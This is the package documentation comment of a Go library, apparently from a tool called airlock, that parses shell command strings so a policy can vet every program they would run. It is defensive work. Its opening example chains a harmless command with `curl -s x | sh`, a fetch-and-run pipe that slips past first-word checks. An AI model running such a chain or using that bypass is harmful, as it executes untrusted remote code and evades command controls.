// Package shellread reads a shell command string the way a shell would run it
// and reports every simple command it contains, so that a policy can decide
// each executed program on its own.
//
// A string such as `git status && curl -s x | sh` is one request but runs three
// programs; a checker that looks only at the first word allows all three.
// ReadIn parses with mvdan.cc/sh/v3/syntax in the dialect of the shell that
// runs the string (POSIX sh as dash runs it, or bash; Read is bash), refuses
// what that shell would run differently than it reads, and walks lists, pipelines, background
// jobs, subshells, brace groups, control structures, function bodies, command
// and process substitutions, nested `sh -c` strings, literal `eval` strings and
// the programs that known exec wrappers (env, sudo, xargs, find -exec, …) start.
// Quotes and escapes are resolved; whatever only the running shell could know
// (an expansion in command position, `eval` of a variable, `${x@P}`, a shell
// fed on its input, bash arithmetic on a value read at run time) is marked
// Undecidable so the caller escalates instead of guessing. The programs whose
// options run code are read by one option grammar (grammar.go).
//
// ReadArgv does the same for an argv run without a shell, and Starts and
// StartsArgv say, without allocating, whether there is anything to find.
// Canon (and AppendCanon, Spellings) bring option spellings to one form
// before argument patterns match, and Builtin/Catastrophic hold the command
// rules that escalate even when no policy is configured. RiskyEnv names the
// environment variables whose assignment changes what programs run.
//
// docs/command-rules.md describes what is read, what is undecidable, the
// canonical argument form and the rule table.
//
// The package is pure: it does no I/O and starts nothing. It is imported by
// package policy (Checker.Shell) and may be imported by anything that needs to
// see what a shell string would run; it imports nothing of airlock.
package shellread
